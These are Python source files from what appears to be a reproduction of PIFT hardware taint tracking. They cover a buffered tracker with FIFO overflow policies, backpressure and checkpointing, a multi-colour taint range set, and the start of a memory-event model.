.OverflowPolicy`: ``BLOCK`` (drain a batch in place — today's default),
``DROP_OLDEST`` / ``DROP_NEWEST`` (a ring / guarded FIFO; dropped events
are counted in ``stats.forced_drops`` and degrade later answers), or
``SPILL`` (burst-write the oldest batch to an unbounded secondary queue
in main memory).  Watermarks expose *backpressure*: when the FIFO depth
crosses ``high_watermark`` the ``backpressure`` flag raises (and is
counted) until depth falls back to ``low_watermark``.

Once any event has been force-dropped — by an overflow policy or by an
injected fault (:mod:`repro.core.faults`) — the taint state is no longer
trustworthy: immediate answers carry a ``degraded`` flag
(:class:`ImmediateVerdict`), so a 'clean' verdict under loss is reported
as *known-loss* rather than silently clean.
"""

from __future__ import annotations

import time
from collections import deque
from dataclasses import asdict, dataclass
from typing import TYPE_CHECKING, Callable, Deque, List, Optional, Tuple

from repro.core.colours import ColourSpace
from repro.core.config import BufferConfig, OverflowPolicy, PIFTConfig
from repro.core.events import AccessKind, MemoryAccess
from repro.core.ranges import AddressRange
from repro.core.tracker import ColourTracker, PIFTTracker, TrackerStats

if TYPE_CHECKING:  # pragma: no cover - import cycle guard for annotations
    from repro.core.faults import FaultPlan
    from repro.telemetry import Telemetry


@dataclass
class BufferStats:
    """Accounting for the buffered design point."""

    events_buffered: int = 0
    drains: int = 0
    events_drained: int = 0
    forced_drops: int = 0  # buffer overflow with a drop policy
    spilled_events: int = 0  # overflow bursts written to secondary memory
    backpressure_engagements: int = 0  # high-watermark crossings
    max_queue_depth: int = 0
    blocking_checks: int = 0
    blocking_drain_events: int = 0  # events processed while a check waited
    immediate_checks: int = 0
    degraded_checks: int = 0  # checks answered after forced/faulted loss
    stale_negatives: int = 0  # immediate 'clean' that turned tainted

    def as_dict(self) -> dict:
        """JSON-ready form (feeds the telemetry/CLI exporters)."""
        return asdict(self)

    @classmethod
    def from_dict(cls, payload: dict) -> "BufferStats":
        """Inverse of :meth:`as_dict` (checkpoint restore)."""
        return cls(**{key: int(value) for key, value in payload.items()})


@dataclass(frozen=True)
class LateDetection:
    """An in-flight leak that an immediate check missed, found at drain."""

    sink_name: str
    address_range: AddressRange
    events_behind: int  # how many buffered events the answer was behind
    degraded: bool = False  # events had been force-dropped by then
    #: Contributing source colours at settle time (coloured tracker only;
    #: empty under the plain single-bit tracker).
    colours: Tuple[str, ...] = ()


@dataclass(frozen=True)
class ImmediateVerdict:
    """The full answer to an immediate (detection-semantics) sink check.

    ``degraded`` marks a *known-loss* answer: events were force-dropped
    (overflow policy) or lost to injected faults before this check, so
    a clean verdict cannot be trusted at full confidence.
    """

    tainted: bool
    degraded: bool
    forced_drops: int  # overflow-policy drops at answer time
    fault_drops: int  # injected event losses at answer time
    #: Contributing source colours at answer time (coloured tracker only;
    #: empty under the plain single-bit tracker).  ``tainted`` equals
    #: ``bool(colours)`` when colours are live.
    colours: Tuple[str, ...] = ()


class BufferedPIFT:
    """A PIFT tracker fed through a bounded event buffer.

    Args:
        config: the tainting-window parameters.
        capacity: maximum buffered events.  When full, the configured
            :class:`~repro.core.config.OverflowPolicy` applies — the
            default ``BLOCK`` drains a batch automatically (modelling a
            hardware FIFO watermark), so taint state lags the CPU by at
            most ``capacity`` events.
        drain_batch: events processed per drain step.
        policy: overflow behaviour when the FIFO is full.
        high_watermark / low_watermark: backpressure thresholds (defaults:
            ``capacity`` and half of it).
        faults: optional :class:`~repro.core.faults.FaultPlan`.  When
            absent the event path is byte-identical to a fault-free
            build — the faulted variant is only *bound over*
            ``on_memory_event`` (as an instance attribute) when a plan
            is supplied, mirroring the telemetry shadow-method pattern.
        telemetry: optional :class:`~repro.telemetry.Telemetry` hub.
        on_backpressure: optional callback invoked with ``True`` when the
            FIFO crosses the high watermark and ``False`` when it falls
            back to the low watermark.  This is the service hook: the
            ``repro serve`` daemon registers one per shard and *stops
            reading the device's socket* while engaged, so the overflow
            watermarks become real TCP backpressure instead of silent
            drops.  Called synchronously from the event/drain path —
            keep it cheap and non-reentrant.
        colours: optional :class:`~repro.core.colours.ColourSpace`.  When
            supplied the wrapped tracker is a
            :class:`~repro.core.tracker.ColourTracker` over that space;
            :meth:`taint_source` accepts a ``colour`` label and immediate
            verdicts / late detections carry contributing colours.  The
            verdict bits themselves are unchanged (union projection).
    """

    def __init__(
        self,
        config: PIFTConfig,
        capacity: int = 1024,
        drain_batch: int = 256,
        telemetry: Optional["Telemetry"] = None,
        policy: OverflowPolicy = OverflowPolicy.BLOCK,
        high_watermark: Optional[int] = None,
        low_watermark: Optional[int] = None,
        faults: Optional["FaultPlan"] = None,
        colours: Optional[ColourSpace] = None,
        on_backpressure: Optional[Callable[[bool], None]] = None,
    ) -> None:
        if capacity < 1 or drain_batch < 1:
            raise ValueError("capacity and drain_batch must be >= 1")
        self._coloured = colours is not None
        if self._coloured:
            self.tracker: PIFTTracker = ColourTracker(
                config, colours=colours, telemetry=telemetry
            )
        else:
            self.tracker = PIFTTracker(config, telemetry=telemetry)
        self.capacity = capacity
        self.drain_batch = drain_batch
        self.policy = policy
        self._high_watermark = capacity if high_watermark is None else high_watermark
        if not 1 <= self._high_watermark <= capacity:
            raise ValueError("high_watermark must be in [1, capacity]")
        self._low_watermark = (
            self._high_watermark // 2 if low_watermark is None else low_watermark
        )
        if not 0 <= self._low_watermark < self._high_watermark:
            raise ValueError("low_watermark must be in [0, high_watermark)")
        self.stats = BufferStats()
        self.late_detections: List[LateDetection] = []
        self._queue: Deque[MemoryAccess] = deque()
        self._spill: Deque[MemoryAccess] = deque()
        self._pending_immediate: List[tuple] = []
        self._backpressure = False
        self._on_backpressure = on_backpressure
        # FIFO sequence accounting: every accepted event gets the next
        # enqueue ordinal; it is *retired* when drained into the tracker
        # or force-dropped from the queue.  Events retire in FIFO order,
        # so a pending immediate check settles once the retire counter
        # reaches the enqueue counter it saw at answer time.
        self._enqueue_seq = 0
        self._retired_seq = 0
        self._injector = None
        if faults is not None:
            self._injector = faults.injector(telemetry=telemetry)
            self.on_memory_event = self._on_memory_event_with_faults
        self._tel: Optional["Telemetry"] = None
        if telemetry is not None and telemetry.enabled:
            self._tel = telemetry
            m = telemetry.metrics
            self._m_events = m.counter(
                "buffer.events", "events enqueued to the FIFO"
            )
            self._m_drains = m.counter("buffer.drains", "drain batches executed")
            self._m_drained = m.counter(
                "buffer.events_drained", "events processed by drains"
            )
            self._m_depth = m.gauge("buffer.queue_depth", "current FIFO depth")
            self._m_drain_seconds = m.histogram(
                "buffer.drain_seconds", "drain batch wall time"
            )
            self._m_forced_drops = m.counter(
                "buffer.forced_drops", "events lost to the overflow policy"
            )
            self._m_spilled = m.counter(
                "buffer.spilled_events", "events spilled to secondary memory"
            )
            self._m_backpressure = m.counter(
                "buffer.backpressure_engagements", "high-watermark crossings"
            )

    @classmethod
    def from_config(
        cls,
        config: PIFTConfig,
        buffer: BufferConfig,
        telemetry: Optional["Telemetry"] = None,
        faults: Optional["FaultPlan"] = None,
    ) -> "BufferedPIFT":
        """Build from a :class:`~repro.core.config.BufferConfig` bundle."""
        return cls(
            config,
            capacity=buffer.capacity,
            drain_batch=buffer.drain_batch,
            telemetry=telemetry,
            policy=buffer.policy,
            high_watermark=buffer.effective_high_watermark,
            low_watermark=buffer.effective_low_watermark,
            faults=faults,
        )

    # -- front-end side ----------------------------------------------------------

    def on_memory_event(self, event: MemoryAccess) -> None:
        """Append one event; apply the overflow policy when the FIFO is full."""
        if (
            self.policy is not OverflowPolicy.BLOCK
            and len(self._queue) >= self.capacity
        ):
            if not self._make_room():
                return  # DROP_NEWEST refused the incoming event
        self._queue.append(event)
        self._enqueue_seq += 1
        self.stats.events_buffered += 1
        if len(self._queue) > self.stats.max_queue_depth:
            self.stats.max_queue_depth = len(self._queue)
        if self._tel is not None:
            self._m_events.inc()
            self._m_depth.set(len(self._queue))
        self._update_backpressure()
        if (
            self.policy is OverflowPolicy.BLOCK
            and len(self._queue) >= self.capacity
        ):
            self.drain(self.drain_batch)

    def _on_memory_event_with_faults(self, event: MemoryAccess) -> None:
        """Fault-path shadow of :meth:`on_memory_event` (instance-bound)."""
        for delivered in self._injector.feed(event):
            type(self).on_memory_event(self, delivered)

    def _make_room(self) -> bool:
        """Apply a non-blocking overflow policy; False rejects the event."""
        if self.policy is OverflowPolicy.DROP_NEWEST:
            self.stats.forced_drops += 1
            if self._tel is not None:
                self._m_forced_drops.inc()
                self._tel.event("forced_drop", policy=self.policy.value)
            return False
        if self.policy is OverflowPolicy.DROP_OLDEST:
            self._queue.popleft()
            self._retired_seq += 1
            self.stats.forced_drops += 1
            if self._tel is not None:
                self._m_forced_drops.inc()
                self._tel.event("forced_drop", policy=self.policy.value)
            return True
        # SPILL: burst-write the oldest drain_batch events to main memory.
        burst = min(self.drain_batch, len(self._queue))
        for _ in range(burst):
            self._spill.append(self._queue.popleft())
        self.stats.spilled_events += burst
        if self._tel is not None:
            self._m_spilled.inc(burst)
            self._tel.event("spill", events=burst, spill_depth=len(self._spill))
        return True

    def _update_backpressure(self) -> None:
        depth = len(self._queue)
        if not self._backpressure and depth >= self._high_watermark:
            self._backpressure = True
            self.stats.backpressure_engagements += 1
            if self._tel is not None:
                self._m_backpressure.inc()
                self._tel.event("backpressure_on", depth=depth)
            if self._on_backpressure is not None:
                self._on_backpressure(True)
        elif self._backpressure and depth <= self._low_watermark:
            self._backpressure = False
            if self._tel is not None:
                self._tel.event("backpressure_off", depth=depth)
            if self._on_backpressure is not None:
                self._on_backpressure(False)

    def taint_source(
        self,
        address_range: AddressRange,
        pid: int = 0,
        colour: Optional[str] = None,
    ) -> None:
        """Source registration is synchronous (it is rare — paper §3.3).

        ``colour`` labels the source on a coloured tracker; it is
        rejected on a plain one (silently dropping a label would make
        attribution lie by omission).
        """
        self.drain_all()
        if self._coloured:
            self.tracker.taint_source(address_range, pid=pid, colour=colour)
        elif colour is not None:
            raise ValueError(
                "colour labels need a coloured tracker; pass colours="
                "ColourSpace() when building BufferedPIFT"
            )
        else:
            self.tracker.taint_source(address_range, pid=pid)

    # -- draining -------------------------------------------------------------------

    @property
    def queue_depth(self) -> int:
        return len(self._queue)

    @property
    def spill_depth(self) -> int:
        """Events waiting in the secondary (main-memory) spill queue."""
        return len(self._spill)

    @property
    def backpressure(self) -> bool:
        """True while the FIFO sits above the high watermark."""
        return self._backpressure

    @property
    def degraded(self) -> bool:
        """True once taint information was lost — to the overflow policy
        (forced drops) or to a lossy fault (event drop, address
        corruption, state drop, eviction storm)."""
        if self.stats.forced_drops:
            return True
        injector = self._injector
        return injector is not None and injector.stats.information_lost

    @property
    def fault_stats(self):
        """The injector's :class:`~repro.core.faults.FaultStats`, or None."""
        return self._injector.stats if self._injector is not None else None

    def drain(self, batch: Optional[int] = None) -> int:
        """Process up to ``batch`` queued events (all of them if None).

        Spilled events are worked through first — they are the oldest,
        and FIFO order must hold for reconciliation.
        """
        available = len(self._spill) + len(self._queue)
        limit = available if batch is None else min(batch, available)
        started = time.perf_counter() if self._tel is not None else 0.0
        injector = self._injector
        spill = self._spill
        queue = self._queue
        observe = self.tracker.observe
        for _ in range(limit):
            event = spill.popleft() if spill else queue.popleft()
            observe(event)
            self._retired_seq += 1
            if injector is not None:
                injector.state_faults(self.tracker, event.pid)
        if limit:
            self.stats.drains += 1
            self.stats.events_drained += limit
        if self._tel is not None and limit:
            elapsed = time.perf_counter() - started
            self._m_drains.inc()
            self._m_drained.inc(limit)
            self._m_depth.set(len(self._queue))
            self._m_drain_seconds.observe(elapsed)
            self._tel.event(
                "drain",
                events=limit,
                remaining=len(self._queue),
                duration_us=round(elapsed * 1e6, 3),
            )
        self._update_backpressure()
        self._reconcile_immediate_checks()
        return limit

    def drain_all(self) -> int:
        return self.drain(None)

    # -- sink side ----------------------------------------------------------------------

    def check_blocking(self, address_range: AddressRange, pid: int = 0) -> bool:
        """Prevention semantics: wait for the buffer, then answer."""
        self.stats.blocking_checks += 1
        self.stats.blocking_drain_events += len(self._queue) + len(self._spill)
        self.drain_all()
        if self.degraded:
            self.stats.degraded_checks += 1
        return self.tracker.check(address_range, pid=pid)

    def check_blocking_colours(
        self, address_range: AddressRange, pid: int = 0
    ) -> Tuple[str, ...]:
        """Prevention semantics with attribution: drain, then name the
        contributing source colours (empty tuple = clean).  Coloured
        trackers only."""
        if not self._coloured:
            raise ValueError("check_blocking_colours needs a coloured tracker")
        self.check_blocking(address_range, pid=pid)
        return self.tracker.check_colours(address_range, pid=pid)

    def check_immediate(
        self, address_range: AddressRange, pid: int = 0, sink_name: str = ""
    ) -> bool:
        """Detection semantics: answer now from possibly-stale state.

        A 'clean' answer is provisional: if the drained events turn the
        range tainted, a :class:`LateDetection` is recorded.  See
        :meth:`check_immediate_verdict` for the degraded-confidence
        (known-loss) variant of the answer.
        """
        return self.check_immediate_verdict(
            address_range, pid=pid, sink_name=sink_name
        ).tainted

    def check_immediate_verdict(
        self, address_range: AddressRange, pid: int = 0, sink_name: str = ""
    ) -> ImmediateVerdict:
        """Like :meth:`check_immediate`, with loss-awareness attached."""
        self.stats.immediate_checks += 1
        degraded = self.degraded
        if degraded:
            self.stats.degraded_checks += 1
        colours: Tuple[str, ...] = ()
        if self._coloured:
            colours = self.tracker.check_colours(address_range, pid=pid)
            answer = bool(colours)
        else:
            answer = self.tracker.check(address_range, pid=pid)
        if not answer:
            behind = len(self._queue) + len(self._spill)
            self._pending_immediate.append(
                (sink_name, address_range, pid, behind, self._enqueue_seq)
            )
        injector = self._injector
        return ImmediateVerdict(
            tainted=answer,
            degraded=degraded,
            forced_drops=self.stats.forced_drops,
            fault_drops=injector.stats.events_dropped if injector else 0,
            colours=colours,
        )

    def _reconcile_immediate_checks(self) -> None:
        """Settle provisional 'clean' answers whose events have retired.

        A check recorded the enqueue ordinal it saw; once that many
        events have been drained *or force-dropped* (retirement is FIFO),
        everything that was in flight at answer time has been resolved
        and the answer can be settled — even on a partial drain.
        """
        if not self._pending_immediate:
            return
        retired = self._retired_seq
        still_pending: List[tuple] = []
        for pending in self._pending_immediate:
            sink_name, address_range, pid, behind, barrier = pending
            if barrier > retired:
                still_pending.append(pending)
                continue
            if self.tracker.check(address_range, pid=pid):
                self.stats.stale_negatives += 1
                colours: Tuple[str, ...] = ()
                if self._coloured:
                    colours = self.tracker.check_colours(
                        address_range, pid=pid
                    )
                self.late_detections.append(
                    LateDetection(
                        sink_name, address_range, behind,
                        degraded=self.degraded, colours=colours,
                    )
                )
            # Either way the provisional answer is now settled.
        self._pending_immediate = still_pending

    # -- checkpoint / restore ------------------------------------------------

    def snapshot(self) -> dict:
        """JSON-compatible checkpoint: tracker + queues + pending checks.

        Captures everything a faulted run needs to resume: the wrapped
        tracker (delegating to :meth:`PIFTTracker.snapshot`), the FIFO
        and spill contents, buffer stats, backpressure state, and the
        provisional immediate checks with their sequence barriers.
        """
        def pack(event: MemoryAccess) -> list:
            return [
                event.kind.value,
                event.address_range.start,
                event.address_range.end,
                event.instruction_index,
                event.pid,
            ]

        return {
            "tracker": self.tracker.snapshot(),
            "queue": [pack(event) for event in self._queue],
            "spill": [pack(event) for event in self._spill],
            "stats": self.stats.as_dict(),
            "pending": [
                [sink, rng.start, rng.end, pid, behind, barrier]
                for sink, rng, pid, behind, barrier in self._pending_immediate
            ],
            "late_detections": [
                # Colours ride along as an optional sixth element, so
                # snapshots written by colour-free builds stay loadable
                # (and byte-identical) either way.
                [d.sink_name, d.address_range.start, d.address_range.end,
                 d.events_behind, d.degraded]
                + ([list(d.colours)] if d.colours else [])
                for d in self.late_detections
            ],
            "backpressure": self._backpressure,
            "enqueue_seq": self._enqueue_seq,
            "retired_seq": self._retired_seq,
        }

    def restore(self, snapshot: dict) -> None:
        """Restore a :meth:`snapshot` exactly (construction params aside)."""
        def unpack(packed) -> MemoryAccess:
            kind, start, end, index, pid = packed
            return MemoryAccess(
                AccessKind(kind), AddressRange(int(start), int(end)),
                int(index), int(pid),
            )

        self.tracker.restore(snapshot["tracker"])
        self._queue = deque(unpack(packed) for packed in snapshot["queue"])
        self._spill = deque(unpack(packed) for packed in snapshot["spill"])
        self.stats = BufferStats.from_dict(snapshot["stats"])
        self._pending_immediate = [
            (sink, AddressRange(int(start), int(end)), int(pid),
             int(behind), int(barrier))
            for sink, start, end, pid, behind, barrier in snapshot["pending"]
        ]
        self.late_detections = [
            LateDetection(
                packed[0],
                AddressRange(int(packed[1]), int(packed[2])),
                int(packed[3]),
                degraded=bool(packed[4]),
                colours=tuple(packed[5]) if len(packed) > 5 else (),
            )
            for packed in snapshot["late_detections"]
        ]
        self._backpressure = bool(snapshot["backpressure"])
        self._enqueue_seq = int(snapshot["enqueue_seq"])
        self._retired_seq = int(snapshot["retired_seq"])

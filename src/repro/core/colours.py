"""Multi-colour taint: per-source provenance labels over range sets.

PIFT's :class:`~repro.core.ranges.RangeSet` collapses all taint to one
tainted/untainted bit, so a sink verdict cannot say *which* source (IMEI
vs GPS vs phone number) leaked.  This module generalises the taint state
to per-source label sets ("colours", after multi-tag DIFT hardware):

* :class:`ColourSpace` — a deterministic registry mapping source names to
  single-bit labels in a 64-bit mask (first registration wins bit order).
* :class:`ColourRangeSet` — a :class:`~repro.core.ranges.RangeSet` mirror
  whose disjoint sorted intervals each carry a ``uint64`` colour mask.

Semantics (the *union tracker* model, documented in DESIGN.md):

* a tainted load's window carries the OR of every overlapped range's
  mask; in-window stores taint their target with that window mask;
* an untaint removes the bytes wholesale, regardless of colour — an
  overwrite destroys all taint, so the tainted/untainted *classification*
  of every event is colour-blind by construction;
* adjacent intervals coalesce only when their masks are equal, so with a
  single registered colour every mask is identical and the interval
  structure — and therefore every verdict, counter, and golden trace —
  is byte-identical to the plain ``RangeSet`` tracker (the parity suite
  in ``tests/property/test_colour_parity.py`` enforces this).
"""

from __future__ import annotations

import bisect
from typing import Dict, Iterator, List, Optional, Tuple

from repro.core.ranges import AddressRange


class ColourSpace:
    """Deterministic name → colour-bit registry (64 bits wide).

    Colours are allocated in first-registration order.  Beyond
    :data:`MAX_COLOURS` distinct names, further names alias the last bit:
    the union projection (any non-zero mask == tainted) stays exact, and
    attribution degrades gracefully to "one of the overflow sources".
    """

    MAX_COLOURS = 64

    def __init__(self, names: Tuple[str, ...] = ()) -> None:
        self._names: List[str] = []
        self._bits: Dict[str, int] = {}
        for name in names:
            self.register(name)

    def __len__(self) -> int:
        return len(self._names)

    def __contains__(self, name: str) -> bool:
        return name in self._bits

    def register(self, name: str) -> int:
        """Return ``name``'s mask bit, allocating the next bit on first use."""
        mask = self._bits.get(name)
        if mask is None:
            index = min(len(self._names), self.MAX_COLOURS - 1)
            mask = 1 << index
            self._names.append(name)
            self._bits[name] = mask
        return mask

    def mask_of(self, name: str) -> int:
        """The registered mask for ``name`` (KeyError when unknown)."""
        return self._bits[name]

    def names_for(self, mask: int) -> Tuple[str, ...]:
        """All registered names whose bit is set in ``mask``, in
        registration order (deterministic, so attribution tuples are
        comparable across runs)."""
        if not mask:
            return ()
        return tuple(n for n in self._names if self._bits[n] & mask)

    @property
    def names(self) -> Tuple[str, ...]:
        return tuple(self._names)

    def snapshot(self) -> dict:
        return {"names": list(self._names)}

    @classmethod
    def from_snapshot(cls, payload: dict) -> "ColourSpace":
        return cls(tuple(payload["names"]))


class ColourRangeSet:
    """Sorted disjoint intervals, each carrying a colour bitmask.

    The interval algebra mirrors :class:`~repro.core.ranges.RangeSet`
    (inclusive bounds, parallel start/end lists, version-cached numpy
    mirrors) with one structural difference: adjacent or overlapping
    neighbours merge only when their masks are **equal** — overlapping
    adds OR masks over the intersection and split at colour boundaries.
    Byte coverage (`overlaps`, `total_size`) is mask-independent, which
    is what makes the union projection exact.
    """

    def __init__(self) -> None:
        self._starts: List[int] = []
        self._ends: List[int] = []
        self._masks: List[int] = []
        self._version: int = 0
        self._np_mirror: Optional[tuple] = None
        self._np_masks: Optional[tuple] = None
        self._total: int = 0

    # -- queries ---------------------------------------------------------

    def __len__(self) -> int:
        return len(self._starts)

    def __bool__(self) -> bool:
        return bool(self._starts)

    def __iter__(self) -> Iterator[AddressRange]:
        for start, end in zip(self._starts, self._ends):
            yield AddressRange(start, end)

    def items(self) -> Iterator[Tuple[int, int, int]]:
        """Yield ``(start, end, mask)`` triples in address order."""
        return zip(self._starts, self._ends, self._masks)

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, ColourRangeSet):
            return NotImplemented
        return (
            self._starts == other._starts
            and self._ends == other._ends
            and self._masks == other._masks
        )

    def __repr__(self) -> str:
        inner = ", ".join(
            f"[{s:#x}, {e:#x}]#{m:x}" for s, e, m in self.items()
        )
        return f"ColourRangeSet({inner})"

    @property
    def total_size(self) -> int:
        return self._total

    @property
    def range_count(self) -> int:
        return len(self._starts)

    def overlaps(self, query: AddressRange) -> bool:
        idx = bisect.bisect_right(self._starts, query.end) - 1
        return idx >= 0 and self._ends[idx] >= query.start

    def covers_address(self, address: int) -> bool:
        return self.overlaps(AddressRange(address, address))

    def overlapping(self, query: AddressRange) -> List[AddressRange]:
        result: List[AddressRange] = []
        idx = bisect.bisect_right(self._starts, query.end) - 1
        while idx >= 0 and self._ends[idx] >= query.start:
            result.append(AddressRange(self._starts[idx], self._ends[idx]))
            idx -= 1
        result.reverse()
        return result

    def mask_overlapping(self, query: AddressRange) -> int:
        """OR of the masks of every stored range overlapping ``query``.

        This is the per-load lookup of the coloured tracker: zero means
        untainted, and the set bits name the contributing sources.
        """
        mask = 0
        idx = bisect.bisect_right(self._starts, query.end) - 1
        while idx >= 0 and self._ends[idx] >= query.start:
            mask |= self._masks[idx]
            idx -= 1
        return mask

    def as_arrays(self):
        """Sorted ``(starts, ends)`` int64 numpy mirror (see RangeSet)."""
        mirror = self._np_mirror
        if mirror is None or mirror[0] != self._version:
            import numpy

            mirror = (
                self._version,
                numpy.asarray(self._starts, dtype=numpy.int64),
                numpy.asarray(self._ends, dtype=numpy.int64),
            )
            self._np_mirror = mirror
        return mirror[1], mirror[2]

    def mask_array(self):
        """``uint64`` numpy mirror of the per-range masks, cache-aligned
        with :meth:`as_arrays` (same version discipline)."""
        cached = self._np_masks
        if cached is None or cached[0] != self._version:
            import numpy

            cached = (
                self._version,
                numpy.asarray(self._masks, dtype=numpy.uint64),
            )
            self._np_masks = cached
        return cached[1]

    # -- mutations -------------------------------------------------------

    def add(self, item: AddressRange, mask: int) -> None:
        """Taint ``item`` with ``mask``: OR into overlapped intervals
        (splitting at the boundaries), fill gaps, then locally coalesce
        equal-mask neighbours."""
        if mask == 0:
            raise ValueError("colour mask must be non-zero")
        start, end = item.start, item.end
        starts, ends, masks = self._starts, self._ends, self._masks
        lo = bisect.bisect_left(ends, start)
        hi = bisect.bisect_right(starts, end)
        if lo == hi:
            # Gap insert: no stored range overlaps.  Coalesce into the
            # adjacent neighbour(s) when their masks equal ours.
            prev_joins = (
                lo > 0 and masks[lo - 1] == mask
                and ends[lo - 1] + 1 == start
            )
            next_joins = (
                lo < len(starts) and masks[lo] == mask
                and end + 1 == starts[lo]
            )
            if prev_joins and next_joins:
                ends[lo - 1] = ends[lo]
                del starts[lo], ends[lo], masks[lo]
            elif prev_joins:
                ends[lo - 1] = end
            elif next_joins:
                starts[lo] = start
            else:
                starts.insert(lo, start)
                ends.insert(lo, end)
                masks.insert(lo, mask)
            self._total += end - start + 1
            self._version += 1
            return
        if (
            hi == lo + 1
            and starts[lo] <= start
            and ends[lo] >= end
            and masks[lo] & mask == mask
        ):
            # Fully absorbed: one covering range already carries every
            # bit we would OR in.  Nothing changes — not even the
            # version, so the numpy mirrors stay cached (this is the
            # steady-state hot path of the scalar loop).
            return
        pieces: List[Tuple[int, int, int]] = []
        cursor = start
        added = 0
        for i in range(lo, hi):
            s, e, m = starts[i], ends[i], masks[i]
            if s > cursor:
                pieces.append((cursor, s - 1, mask))
                added += s - cursor
            if s < start:
                pieces.append((s, start - 1, m))
            pieces.append((max(s, start), min(e, end), m | mask))
            if e > end:
                pieces.append((end + 1, e, m))
            cursor = min(e, end) + 1
        if cursor <= end:
            pieces.append((cursor, end, mask))
            added += end - cursor + 1
        merged: List[List[int]] = []
        for s, e, m in pieces:
            if merged and merged[-1][2] == m and merged[-1][1] + 1 == s:
                merged[-1][1] = e
            else:
                merged.append([s, e, m])
        starts[lo:hi] = [p[0] for p in merged]
        ends[lo:hi] = [p[1] for p in merged]
        masks[lo:hi] = [p[2] for p in merged]
        # Boundary coalesce with the untouched neighbours on either side.
        right = lo + len(merged) - 1
        if 0 <= right < len(starts) - 1 and (
            masks[right] == masks[right + 1]
            and ends[right] + 1 == starts[right + 1]
        ):
            ends[right] = ends[right + 1]
            del starts[right + 1], ends[right + 1], masks[right + 1]
        if lo > 0 and lo <= len(starts) - 1 and (
            masks[lo - 1] == masks[lo] and ends[lo - 1] + 1 == starts[lo]
        ):
            ends[lo - 1] = ends[lo]
            del starts[lo], ends[lo], masks[lo]
        self._total += added
        self._version += 1

    def add_many(
        self, items: List[Tuple[int, int]], mask: int
    ) -> Optional[Tuple[int, int]]:
        """Taint every ``(start, end)`` pair with one shared ``mask``.

        Content-equivalent to :meth:`add` per pair; returns the extent
        ``(lo, hi)`` — the smallest span covering every stored range the
        batch touched — with the same contract as
        :meth:`repro.core.ranges.RangeSet.add_many`: outside the extent
        both coverage *and masks* are unchanged (equal-mask-only boundary
        coalescing never rewrites a neighbour's mask)."""
        extent, _ = self.add_many_steps(items, mask)
        return extent

    def add_many_steps(
        self, items: List[Tuple[int, int]], mask: int
    ) -> Tuple[Optional[Tuple[int, int]], List[Tuple[int, int]]]:
        """:meth:`add_many` plus per-step ``(total_after, count_after)``.

        Unlike the plain :class:`~repro.core.ranges.RangeSet`, where an
        add raises the range count by at most one, a coloured add that
        spans ``k`` gapped differently-masked ranges can raise it by
        ``k + 1`` (splits at every colour boundary) — no static per-add
        budget bounds the intermediate counts.  Callers that maintain
        the non-monotone ``max_range_count`` high-water mark therefore
        need the count after *every* add, same as
        :meth:`remove_many` reports for removes."""
        steps: List[Tuple[int, int]] = []
        if not items:
            return None, steps
        for start, end in items:
            self.add(AddressRange(start, end), mask)
            steps.append((self._total, len(self._starts)))
        hull_lo = min(s for s, _ in items)
        hull_hi = max(e for _, e in items)
        i0 = bisect.bisect_left(self._ends, hull_lo)
        i1 = bisect.bisect_right(self._starts, hull_hi) - 1
        return (self._starts[i0], self._ends[i1]), steps

    def remove(self, item: AddressRange) -> None:
        """Untaint ``item`` wholesale — every colour at once.  Straddling
        intervals split; the remnants keep their original masks."""
        starts, ends, masks = self._starts, self._ends, self._masks
        lo = bisect.bisect_left(ends, item.start)
        hi = bisect.bisect_right(starts, item.end)
        if lo >= hi:
            return
        removed = 0
        for i in range(lo, hi):
            removed += ends[i] - starts[i] + 1
        new_starts: List[int] = []
        new_ends: List[int] = []
        new_masks: List[int] = []
        if starts[lo] < item.start:
            new_starts.append(starts[lo])
            new_ends.append(item.start - 1)
            new_masks.append(masks[lo])
        if item.end < ends[hi - 1]:
            new_starts.append(item.end + 1)
            new_ends.append(ends[hi - 1])
            new_masks.append(masks[hi - 1])
        starts[lo:hi] = new_starts
        ends[lo:hi] = new_ends
        masks[lo:hi] = new_masks
        self._total += sum(
            e - s + 1 for s, e in zip(new_starts, new_ends)
        ) - removed
        self._version += 1

    def remove_many(
        self, items: List[Tuple[int, int]]
    ) -> List[Tuple[bool, int, int]]:
        """Untaint each pair in sequence; same per-step
        ``(effective, total_after, count_after)`` contract as
        :meth:`repro.core.ranges.RangeSet.remove_many`."""
        steps: List[Tuple[bool, int, int]] = []
        for start, end in items:
            before = self._version
            self.remove(AddressRange(start, end))
            steps.append(
                (self._version != before, self._total, len(self._starts))
            )
        return steps

    def clear(self) -> None:
        self._starts.clear()
        self._ends.clear()
        self._masks.clear()
        self._total = 0
        self._version += 1

    def copy(self) -> "ColourRangeSet":
        clone = ColourRangeSet()
        clone._starts = list(self._starts)
        clone._ends = list(self._ends)
        clone._masks = list(self._masks)
        clone._total = self._total
        return clone

    # -- fault injection hook --------------------------------------------

    def drop_nth_range(self, n: int) -> Optional[AddressRange]:
        if not self._starts:
            return None
        idx = n % len(self._starts)
        victim = AddressRange(self._starts[idx], self._ends[idx])
        del self._starts[idx]
        del self._ends[idx]
        del self._masks[idx]
        self._total -= victim.size
        self._version += 1
        return victim

    # -- checkpoint / restore --------------------------------------------

    def snapshot(self) -> dict:
        return {
            "starts": list(self._starts),
            "ends": list(self._ends),
            "masks": list(self._masks),
        }

    def restore(self, snapshot: dict) -> None:
        self._starts = [int(v) for v in snapshot["starts"]]
        self._ends = [int(v) for v in snapshot["ends"]]
        self._masks = [
            int(v) for v in snapshot.get("masks", [1] * len(self._starts))
        ]
        self._total = sum(
            e - s + 1 for s, e in zip(self._starts, self._ends)
        )
        self._version += 1

    def __getstate__(self) -> dict:
        state = self.__dict__.copy()
        state["_np_mirror"] = None
        state["_np_masks"] = None
        return state

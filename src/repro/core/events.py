"""Memory-event model — what the PIFT front-end hands to the tracker.

The paper's §3.3 front-end logic watches the CPU instruction unit and, for
each *memory access* instruction, sends to the PIFT hardware module:

1. the process-specific ID (PID / TTBR),
2. the process-specific instruction counter,
3. the access type (load or store),
4. the read or written address range.

Non-memory instructions advance the instruction counter but generate no
event.  ``MemoryAccess`` is that 4-tuple; the ISA simulator and the malware /
DroidBench traces all speak this type.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Iterable, Iterator, List

from repro.core.ranges import AddressRange


class AccessKind(enum.Enum):
    """Whether a memory instruction reads or writes memory."""

    LOAD = "load"
    STORE = "store"


@dataclass(frozen=True)
class MemoryAccess:
    """One memory access observed by the PIFT front-end.

    ``instruction_index`` is the per-process instruction sequence number *k*
    from Algorithm 1 — it counts every CPU instruction, not just memory
    ones, because the tainting window NI is measured in instructions.
    """

